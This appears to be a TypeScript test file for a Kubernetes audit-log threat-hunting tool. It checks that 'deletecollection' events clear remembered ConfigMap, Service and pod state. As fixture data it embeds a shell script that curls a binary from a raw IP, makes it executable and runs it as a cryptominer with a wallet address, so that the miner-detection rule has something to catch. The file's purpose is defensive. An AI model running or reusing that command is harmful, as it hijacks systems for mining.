// `deletecollection` (a namespace's teardown sends one per resource) names no object: every kept
// state of its collection must go, or a later write is judged against objects that no longer exist.
// Each hunt test failed before the fix.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DeletedCollections } from '../../src/audit/deleted-collections.js';
import type { AuditHuntResult } from '../../src/audit/hunt-log.js';
import { huntAuditLogs } from '../../src/audit/hunt-logs.js';
import { PodRoles } from '../../src/audit/pod-roles.js';
import type { K8sObject } from '../../src/core/types.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { auditEvent, gatewayService, jsonLines, pipelinePod } from './events.js';

const threatRules = ALL_RULES.filter((rule) => rule.meta.sources.includes('audit') && rule.meta.category === 'threat');
const at = (minute: number): string => `2026-01-05T10:${String(minute).padStart(2, '0')}:00.000000Z`;
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const NS = 'kubeflow-user-a';

async function hunt(events: readonly unknown[]): Promise<AuditHuntResult> {
  const text = Buffer.from(jsonLines(events));
  async function* chunks(): AsyncGenerator<Buffer> {
    yield text;
  }
  return huntAuditLogs([{ chunks: chunks(), display: 'test.log' }], { rules: threatRules });
}

const script = `#!/bin/sh\ncurl -s http://45.9.148.21/d -o /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter -o 45.9.148.21:3333 -u ${WALLET}\n`;
const bootMap = auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', at: at(1), requestObject: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: NS }, data: { 'run.sh': script } } });
const podReadingBoot = (minute: number) =>
  auditEvent({
    verb: 'create',
    resource: 'pods',
    namespace: NS,
    name: 'p3',
    at: at(minute),
    requestObject: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p3', namespace: NS }, spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot' }] }], volumes: [{ name: 'b', configMap: { name: 'boot' } }] } },
  });
const severityOf = (result: AuditHuntResult, name: string) => result.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.name === name)?.severity;

describe('deletecollection ends the kept state of its collection', () => {
  test('a ConfigMap deleted with its collection is not read by a pod created after', async () => {
    // Kept, the script makes the pod that runs it critical.
    assert.equal(severityOf(await hunt([bootMap, podReadingBoot(3)]), 'p3'), 'critical');
    const deleted = await hunt([bootMap, auditEvent({ verb: 'deletecollection', resource: 'configmaps', namespace: NS, at: at(2) }), podReadingBoot(3)]);
    assert.equal(severityOf(deleted, 'p3'), undefined, JSON.stringify(deleted.findings.map((f) => [f.resource.name, f.severity])));
    // Deleted, not forgotten over the budget: no coverage entry says it was forgotten.
    assert.equal(deleted.coverage.filter((c) => /forgotten/.test(c.reason)).length, 0);
    // Another namespace's collection, a cluster-wide one of another resource, or a failed request leave it.
    for (const other of [
      auditEvent({ verb: 'deletecollection', resource: 'configmaps', namespace: 'elsewhere', at: at(2) }),
      auditEvent({ verb: 'deletecollection', resource: 'secrets', at: at(2) }),
      auditEvent({ verb: 'deletecollection', resource: 'configmaps', namespace: NS, at: at(2), code: 403 }),
    ]) {
      assert.equal(severityOf(await hunt([bootMap, other, podReadingBoot(3)]), 'p3'), 'critical');
    }
    // A cluster-wide deletecollection of the resource takes every namespace's.
    assert.equal(severityOf(await hunt([bootMap, auditEvent({ verb: 'deletecollection', resource: 'configmaps', at: at(2) }), podReadingBoot(3)]), 'p3'), undefined);
    // Created again after the deletion, it is kept again.
    assert.equal(severityOf(await hunt([bootMap, auditEvent({ verb: 'deletecollection', resource: 'configmaps', namespace: NS, at: at(2) }), { ...bootMap, auditID: 'again' }, podReadingBoot(3)]), 'p3'), 'critical');
  });

  test('a Service deleted with its collection: a later patch is judged from its body alone, and says so', async () => {
    const gateway = { resource: 'services', namespace: 'istio-system', name: 'istio-ingressgateway' };
    const patch = auditEvent({ verb: 'patch', ...gateway, at: at(3), requestObject: { spec: { type: 'NodePort' } } });
    const created = auditEvent({ verb: 'create', ...gateway, at: at(1), requestObject: gatewayService('ClusterIP') });
    assert.equal((await hunt([created, patch])).stats.patchesJudgedAlone, 0);
    const result = await hunt([created, auditEvent({ verb: 'deletecollection', resource: 'services', namespace: 'istio-system', at: at(2) }), patch]);
    assert.equal(result.stats.patchesJudgedAlone, 1);
  });

  test('pod roles and the bound on remembered collections', () => {
    const pod = (namespace: string, name: string) => pipelinePod(namespace, name) as K8sObject;
    const collections = new DeletedCollections(2);
    const roles = new PodRoles(10, collections);
    roles.record(NS, 'p', pod(NS, 'p'));
    roles.record('other', 'q', pod('other', 'q'));
    assert.equal(roles.roleOf(NS, 'p'), 'pipeline');
    collections.delete('', 'pods', NS);
    assert.equal(roles.roleOf(NS, 'p'), undefined);
    assert.equal(roles.roleOf('other', 'q'), 'pipeline');
    roles.record(NS, 'p', pod(NS, 'p'));
    assert.equal(roles.roleOf(NS, 'p'), 'pipeline');
    // Past its bound the record of deletions is dropped, and every state kept before dies with it.
    collections.delete('', 'pods', 'x');
    collections.delete('', 'pods', 'y');
    assert.equal(roles.roleOf(NS, 'p'), undefined);
    assert.equal(roles.roleOf('other', 'q'), undefined);
    roles.record(NS, 'p', pod(NS, 'p'));
    assert.equal(roles.roleOf(NS, 'p'), 'pipeline');
  });
});
